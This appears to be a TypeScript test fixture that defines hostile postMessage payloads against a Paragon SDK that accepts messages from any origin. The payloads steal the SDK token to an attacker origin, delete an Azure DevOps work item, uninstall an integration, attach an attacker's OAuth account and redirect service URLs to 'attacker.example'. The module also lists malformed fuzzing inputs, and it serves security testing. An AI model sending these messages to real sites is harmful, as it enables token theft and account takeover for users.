import type { Attacker } from './attacker.js';

/** Id of the integration in the stand-in's project; no secret, since every visitor's browser is told. */
const INTEGRATION_ID = '6f3c1f0e-8a5d-4b27-9a1c-2e4d7b90c3a5';

const SERVICES = [
  'CONNECT',
  'ZEUS',
  'WORKER_PROXY',
  'HERMES',
  'PASSPORT',
  'DASHBOARD',
  'CDN',
  'API_TRIGGER_KIT',
];

/** Messages that do harm where the Paragon SDK listens to everybody; `attacker` would profit. */
export function attacksOf({ origin }: Attacker) {
  const hosts = Object.fromEntries(SERVICES.map((name) => [`${name}_PUBLIC_URL`, `${origin}/${name}`]));
  return {
    /** The SDK's own way to send something, token included, with an option for where to. */
    stealToken: invoke('sendConnectRequest', '/stolen', {
      method: 'POST',
      body: '{}',
      baseURLOverride: origin,
    }),
    deleteItem: invoke(
      'request',
      'azuredevops',
      'https://dev.azure.com/contoso/_apis/wit/workitems/42?api-version=7.1',
      { method: 'DELETE' },
    ),
    disconnect: invoke('uninstallIntegration', 'azuredevops'),
    attachAccount: {
      type: 'oauth_success_callback',
      credential: { integrationId: INTEGRATION_ID, payload: { code: 'of the attacker' } },
    },
    redirect: invoke(
      'configureGlobal',
      { host: 'attacker.example' },
      { ...hosts, PASSPORT_PRODUCTION_URL: `${origin}/PASSPORT` },
    ),
    cover: invoke('updateContainerStyle', { isModalShown: true }),
  } as const;
}

/** What no listener expects. */
export const MALFORMED: readonly unknown[] = [
  null,
  undefined,
  0,
  '',
  'oauth_success_callback',
  [],
  {},
  { messageType: 'SDK_FUNCTION_INVOCATION' },
  { messageType: 'SDK_FUNCTION_INVOCATION', type: 'noSuchMethod', parameters: [], id: '1' },
  { messageType: 'SDK_FUNCTION_INVOCATION', type: 'request', parameters: null, id: '2' },
  { messageType: 'SDK_FUNCTION_INVOCATION', type: 'constructor', parameters: 'x', id: null },
  { messageType: 'SDK_FUNCTION_INVOCATION', type: ['logout'], parameters: { length: 1 } },
  { messageType: 'UI_UPDATE', nextContext: null },
  { type: 'oauth_success_callback' },
  { type: 'oauth_success_callback', credential: null },
  { type: 'oauth_success_callback', credential: { integrationId: 'none', payload: null } },
  { type: 'oauth_error_callback' },
  { type: 'oauth_error_callback', errorResponse: null, integrationId: INTEGRATION_ID },
  { type: 'oauth-nonce-loaded' },
];

function invoke(type: string, ...parameters: unknown[]) {
  return { messageType: 'SDK_FUNCTION_INVOCATION', type, parameters, id: `hostile ${type}` };
}
